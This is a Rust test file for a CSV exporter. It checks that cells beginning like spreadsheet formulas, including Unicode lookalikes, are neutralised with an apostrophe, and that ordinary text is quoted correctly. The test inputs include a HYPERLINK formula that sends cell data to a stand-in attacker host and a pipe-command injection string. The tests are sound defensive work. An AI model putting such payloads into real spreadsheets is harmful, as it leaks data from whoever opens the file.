#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

use super::*;

#[test]
fn no_cell_is_a_formula() {
    for formula in [
        "=1+1",
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "=HYPERLINK(\"https://evil.example?\"&A1)",
        "  =1",
        "\n=1",
        "\u{200b}=1",
        "\u{feff}=1",
        "\u{0}=1",
        "\u{a0}@x",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        "−1",
        "|cmd",
        "%x",
        "-",
    ] {
        let cell = cell_of(formula);
        let inside = cell.trim_matches('"');
        assert!(inside.starts_with('\''), "{formula:?}: {cell:?}");
        // A cell that is read by the rules of the format begins with the apostrophe, whatever stands in it.
        assert!(cell.starts_with("\"'"), "{formula:?}: {cell:?}");
    }
}

#[test]
fn what_is_no_formula_stays_as_it_was_written() {
    for (said, cell) in [
        ("", ""),
        ("calm", "calm"),
        ("1+1=2", "1+1=2"),
        ("Zoë – 水 – שלום", "Zoë – 水 – שלום"),
        ("a,b", "\"a,b\""),
        ("a;b", "\"a;b\""),
        ("she said \"no\"", "\"she said \"\"no\"\"\""),
        ("one\r\ntwo", "\"one\ntwo\""),
        ("one\ntwo", "\"one\ntwo\""),
        ("a\u{0}b\u{b}c", "abc"),
        ("it's", "\"it's\""),
        (" kept ", "\" kept \""),
    ] {
        assert_eq!(cell_of(said), cell, "{said:?}");
    }
}

#[test]
fn a_file_says_that_it_is_utf_8_and_names_its_columns() {
    let mut rows = Rows::named(&["at", "note"]);
    rows.add(&["2026-11-23", "=1,\"2\""]);
    assert_eq!(
        rows.done(),
        "\u{feff}at,note\r\n2026-11-23,\"'=1,\"\"2\"\"\"\r\n"
    );
}

#[test]
fn each_table_is_found_by_its_word() {
    for table in Table::ALL {
        assert_eq!(Table::named(table.as_str()), Some(table));
    }
    assert_eq!(Table::named("passphrases"), None);
}
